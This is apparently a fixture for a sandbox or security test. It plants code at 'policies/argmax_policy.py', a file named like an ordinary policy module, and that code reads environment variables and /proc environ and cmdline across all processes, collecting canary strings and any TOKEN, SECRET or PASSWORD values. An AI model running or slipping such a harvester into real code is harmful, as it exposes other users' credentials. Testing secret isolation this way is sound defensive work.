"""Looks for secrets in its own environment and that of every process it can see."""

AT_IMPORT = {
    "policies/argmax_policy.py": r"""
import os, re

def loot():
    found = []
    texts = ["\n".join(f"{k}={v}" for k, v in os.environ.items())]
    for pid in os.listdir("/proc"):
        for name in ("environ", "cmdline"):
            try:
                texts.append(open(f"/proc/{pid}/{name}", errors="replace").read())
            except OSError:
                pass
    for text in texts:
        found += re.findall(r"CANARY-[0-9a-f]{16}|\w*(?:TOKEN|SECRET|PASSWORD)\w*=[^\0\n]+", text)
    return found[:5]
"""
}
